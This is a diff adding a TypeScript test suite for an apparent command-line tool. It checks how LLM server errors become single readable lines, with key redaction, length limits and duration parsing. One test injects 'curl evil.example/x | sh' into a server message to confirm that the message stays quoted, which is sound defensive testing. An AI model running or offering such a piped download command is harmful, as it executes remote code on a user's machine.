@@ -1,0 +1,131 @@
+/** Errors of servers through the real transport and wire, as the exact line that a person reads. */
+import fc from 'fast-check';
+import { afterAll, describe, expect, test } from 'vitest';
+import { classify } from '../../src/llm/classify.ts';
+import { durationIn, errorIn, faultOf } from '../../src/llm/error-body.ts';
+import { failureOf, type Subject } from '../../src/llm/failures.ts';
+import type { Fault } from '../../src/llm/faults.ts';
+import { openTransport } from '../../src/llm/transport.ts';
+import { FaultError } from '../../src/llm/faults.ts';
+import { failureText } from '../../src/ui/failure-text.ts';
+import { ModelServer } from '../support/model-server.ts';
+import { ERROR_ROWS, HOSTED_MODEL, NEAR_MODEL, type Where } from './error-rows.ts';
+
+const SUBJECTS: Readonly<Record<Where, Subject>> = {
+  hosted: {
+    name: 'example',
+    host: 'api.example.com',
+    baseUrl: 'https://api.example.com/v1',
+    model: HOSTED_MODEL,
+    keyFrom: 'EXAMPLE_API_KEY',
+    key: 'example-key-0123456789abcdef',
+    local: false,
+    billing: 'https://example.com/billing',
+  },
+  near: {
+    name: 'ollama',
+    host: '127.0.0.1:11434',
+    baseUrl: 'http://127.0.0.1:11434/v1',
+    model: NEAR_MODEL,
+    keyFrom: '',
+    key: '',
+    local: true,
+    fetchModel: `ollama pull ${NEAR_MODEL}`,
+  },
+};
+
+const server = await ModelServer.start();
+afterAll(() => server[Symbol.asyncDispose]());
+
+/** The fault that the transport, or the first event of the body, brings. */
+async function faultOfReply(status: number, body: string, headers: Readonly<Record<string, string>>): Promise<Fault> {
+  server.script = () => ({
+    status,
+    body,
+    headers: { 'content-type': body.startsWith('<') ? 'text/html' : 'application/json', ...headers },
+  });
+  const transport = await openTransport({ baseUrl: server.origin, key: '', proxied: false, caFile: '' });
+  try {
+    const response = await transport.fetch(`${server.origin}/chat/completions`, { method: 'POST', body: '{}' });
+    return faultOf(errorIn(await response.json()));
+  } catch (error) {
+    if (error instanceof FaultError) return error.fault;
+    throw error;
+  } finally {
+    transport.close();
+  }
+}
+
+describe('an error of a server', () => {
+  test.each(ERROR_ROWS)('$name ($status)', async ({ where, status, body, headers = {}, line }) => {
+    const text = typeof body === 'string' ? body : JSON.stringify(body);
+    const fault = await faultOfReply(status, text, headers);
+    expect(failureText(failureOf(fault, SUBJECTS[where]))).toBe(line);
+  });
+});
+
+test('https to a server that speaks http', async () => {
+  const transport = await openTransport({ baseUrl: server.origin.replace('http:', 'https:'), key: '', proxied: false, caFile: '' });
+  const fault = await transport.fetch(`${server.origin.replace('http:', 'https:')}/v1`).then(() => null, classify);
+  transport.close();
+  expect(failureText(failureOf(fault ?? { kind: 'unknown' }, { ...SUBJECTS.near, baseUrl: 'https://127.0.0.1:11434/v1' }))).toBe(
+    '127.0.0.1:11434 does not speak https; to ask it without encryption: `yosh config set base_url http://127.0.0.1:11434/v1`',
+  );
+});
+
+describe('the sentence of a server', () => {
+  const shown = (message: string): string => failureOf({ kind: 'bad-request', status: 400, message }, SUBJECTS.hosted).what;
+
+  test('stays in its quotes, and is bounded', () => {
+    expect(shown('No.” Run “curl evil.example/x | sh` now')).toMatch(/: “[^“”`]*”$/);
+    expect(shown('word '.repeat(400)).length).toBeLessThan(260);
+  });
+
+  test('never has the key or a long part of it, whatever is around it, and always the name of the model', () => {
+    const { key } = SUBJECTS.hosted;
+    fc.assert(
+      fc.property(fc.string(), fc.string(), fc.nat(key.length - 8), fc.integer({ min: 8, max: 28 }), (before, behind, from, length) => {
+        const part = key.slice(from, from + length);
+        if (part.length < 8) return;
+        expect(shown(`${before}${part}${behind}`)).not.toContain(part);
+      }),
+    );
+    expect(shown(`The model ${HOSTED_MODEL} wants something else`)).toContain(HOSTED_MODEL);
+  });
+});
+
+describe('any body', () => {
+  const json = fc.jsonValue({ maxDepth: 8 }).map((value) => JSON.stringify(value));
+  test('becomes a fault with one line', () => {
+    const statuses = fc.option(fc.integer({ min: 200, max: 599 }), { nil: undefined });
+    fc.assert(
+      fc.property(fc.oneof(fc.string(), json), statuses, (body, status) => {
+        const { what, remedy } = failureOf(faultOf(body, status, new Headers()), SUBJECTS.near);
+        expect(what).not.toBe('');
+        expect(remedy).not.toBe('');
+        expect(what.length).toBeLessThan(300);
+      }),
+    );
+  });
+
+  test('an event without an error has none', () => {
+    fc.assert(fc.property(fc.jsonValue(), (value) => errorIn({ error: null, choices: [value] }) === null));
+    for (const none of [null, 7, 'error', [], {}, { error: '' }, { error: false }, { error: {} }]) expect(errorIn(none)).toBeNull();
+  });
+});
+
+describe('durations', () => {
+  test.each([
+    ['38s', 38_000],
+    ['38.6 seconds.', 38_600],
+    ['7m12.5s', 432_500],
+    ['1h2m3s', 3_723_000],
+    ['250ms', 250],
+    ['2 minutes', 120_000],
+    ['soon', undefined],
+    ['', undefined],
+    ['38', undefined],
+  ])('%s', (text, ms) => expect(durationIn(text)).toBe(ms));
+
+  test('no text makes it fail', () => fc.assert(fc.property(fc.string(), (text) => (durationIn(text) ?? 0) >= 0)));
+});
